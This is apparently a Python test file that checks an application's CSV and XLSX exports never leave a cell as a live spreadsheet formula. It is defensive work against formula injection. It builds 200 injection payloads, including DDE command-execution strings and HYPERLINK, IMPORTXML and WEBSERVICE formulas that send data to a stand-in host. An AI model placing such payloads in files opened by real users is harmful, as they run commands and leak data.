"""Files that leave: whatever a name or a title holds, no cell of any of them is a formula."""

import csv
import io
from datetime import date
from itertools import product

import openpyxl
import pytest

from model.exchange.exports.page import Page
from model.exchange.exports.page import table as rows_of
from model.exchange.exports.workbooks import of_page
from model.exchange.imports.files import read_file
from model.exchange.imports.mapping import table
from model.exchange.imports.oddities import Oddities
from model.exchange.imports.recognition import propose
from model.exchange.imports.remarks import annotated_file
from model.exchange.imports.statements import read_facts
from model.reference import framework
from model.wording import catalogue

STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    " =",
    "\u00a0=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    '"=',
    "=+",
    "@@",
    "-+",
    "==",
    "%0A=",
    "\u200b=",
]
ENDS = [
    "1+1",
    'HYPERLINK("http://sink.example/?q="&A1;"Ouvrir")',
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    "{=1}",
    'IMPORTXML("http://sink.example";"//a")',
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://sink.example")',
    'INDIRECT("A1")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
]
PAYLOADS = [start + end for start, end in product(STARTS, ENDS)]
WORDS = catalogue("fr")
LIVE = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def live(content: bytes) -> list[object]:
    """The cells of a workbook that a spreadsheet would compute."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell.value for sheet in book for row in sheet for cell in row if cell.data_type == "f"]


def test_there_are_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 200


def test_no_payload_is_a_formula_in_a_workbook_wherever_it_stands() -> None:
    tables = [rows_of(payload, [{payload: payload, "Poste": payload}]) for payload in PAYLOADS[::10]]
    tables.append(rows_of("Tout", [{"Nom": payload} for payload in PAYLOADS]))
    for title in PAYLOADS[::25]:
        page = Page(title, title, title, date(2026, 11, 23), named=True, notes=[title], tables=tables)
        assert live(of_page(page, WORDS)) == []


@pytest.mark.parametrize("name", ["a.csv", "a.xlsx"])
def test_no_payload_is_a_formula_in_a_file_given_back_with_its_remarks(name: str) -> None:
    head = ["Intitulé", "Équipe", "Nom"]
    given = [head, *(["Responsable", f"Équipe {place}", payload] for place, payload in enumerate(PAYLOADS))]
    content = _csv(given) if name.endswith("csv") else _xlsx(given)
    read = [table(sheet) for sheet in read_file(name, content)]
    problems = read_facts(read, propose(read, framework()), framework()).problems
    _, back = annotated_file(name, read, Oddities(tuple(problems)).remarks(WORDS), WORDS)
    if name.endswith("xlsx"):
        assert live(back) == []
        return
    cells = [
        cell for row in csv.reader(io.StringIO(back.decode("utf-8-sig"), newline=""), delimiter=";") for cell in row
    ]
    assert len(cells) > 800
    assert [cell for cell in cells if cell.lstrip().startswith(LIVE)] == []


def _csv(rows: list[list[str]]) -> bytes:
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=";").writerows(rows)
    return text.getvalue().encode()


def _xlsx(rows: list[list[str]]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    for line in book.active:
        for cell in line:
            cell.data_type = "s"
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()
